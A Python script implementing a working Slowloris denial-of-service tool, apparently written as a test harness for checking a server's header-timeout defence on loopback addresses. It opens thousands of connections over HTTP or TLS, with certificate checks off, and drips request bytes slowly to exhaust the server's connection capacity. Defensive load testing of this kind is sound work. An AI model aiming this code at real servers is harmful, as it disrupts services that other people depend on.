#!/usr/bin/env python3
"""Slowloris: hold many connections open by sending a request head one byte every few seconds, reopening
each one the server closes (its header timeout answers 408). Plain HTTP ports get the bytes as they are; TLS
ports get them after a completed handshake, as a real client's would arrive.

    slowloris.py --target HOST:PORT[:tls] ... --connections N --sources 127.0.0.2,127.0.0.3 --interval 3
                 --ready FILE --stop FILE

Connections are spread evenly over the targets and the source addresses. Once 98% of them are open (for TLS,
handshaken) and have sent a byte it writes the --ready FILE; it stops when the --stop file exists.
Prints a summary line every 5 seconds: open, reopened (the server closed them), refused at connect.
"""
import argparse, os, random, resource, selectors, socket, ssl, sys, time

HEAD = b"GET /version HTTP/1.1\r\nHost: slow\r\nUser-Agent: slowloris\r\nX-Padding: " + b"a" * 4000 + b"\r\n\r\n"


class Slow:
    def __init__(self, target, source):
        self.host, self.port, self.tls = target
        self.source = source
        self.sock = None
        self.sent = 0
        self.next_at = 0.0
        self.handshaken = False

    def open(self, context, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((self.source, 0))
        # A blocking connect (loopback: the kernel answers at once, accepted or not); Python's TLS wrapper
        # refuses a socket still connecting.
        s.settimeout(5)
        try:
            s.connect((self.host, self.port))
        except OSError:
            s.close()
            return False
        s.setblocking(False)
        self.sock = context.wrap_socket(s, do_handshake_on_connect=False, server_hostname="localhost") if self.tls else s
        self.sent = 0
        self.handshaken = not self.tls
        self.next_at = now + random.uniform(0, 1)
        return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass
        self.sock = None


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--target", action="append", required=True)
    p.add_argument("--connections", type=int, default=5000)
    p.add_argument("--sources", default="127.0.0.1")
    p.add_argument("--interval", type=float, default=3.0)
    p.add_argument("--ready", required=True)
    p.add_argument("--stop", required=True)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    targets = []
    for t in a.target:
        parts = t.split(":")
        targets.append((parts[0], int(parts[1]), len(parts) > 2 and parts[2] == "tls"))
    sources = a.sources.split(",")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    conns = [Slow(targets[i % len(targets)], sources[(i // len(targets)) % len(sources)]) for i in range(a.connections)]
    now = time.monotonic()
    reopened = refused = 0
    for c in conns:
        if not c.open(context, now):
            refused += 1
    ready = False
    last_report = now
    while not os.path.exists(a.stop):
        now = time.monotonic()
        for c in conns:
            if c.sock is None:
                if not c.open(context, now):
                    refused += 1
                continue
            if not c.handshaken:
                try:
                    c.sock.do_handshake()
                    c.handshaken = True
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
                except (OSError, ssl.SSLError):
                    c.close(); refused += 1
                    continue
            if now < c.next_at:
                continue
            try:
                # A closed connection shows up as a failed send or a readable EOF/408.
                c.sock.send(HEAD[c.sent % len(HEAD):c.sent % len(HEAD) + 1])
                c.sent += 1
                c.next_at = now + a.interval
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except (OSError, ssl.SSLError):
                c.close(); reopened += 1
        # Ready once nearly all are open and have sent a byte (the server's header timeout keeps closing some).
        if not ready and sum(1 for c in conns if c.sock is not None and c.handshaken and c.sent > 0) >= 0.98 * len(conns):
            ready = True
            open(a.ready, "w").close()
        if now - last_report >= 5:
            live = sum(1 for c in conns if c.sock is not None and c.handshaken)
            print(f"slowloris: {live} open, {reopened} reopened, {refused} refused", flush=True)
            last_report = now
        time.sleep(0.2)
    for c in conns:
        if c.sock is not None:
            c.close()


if __name__ == "__main__":
    main()
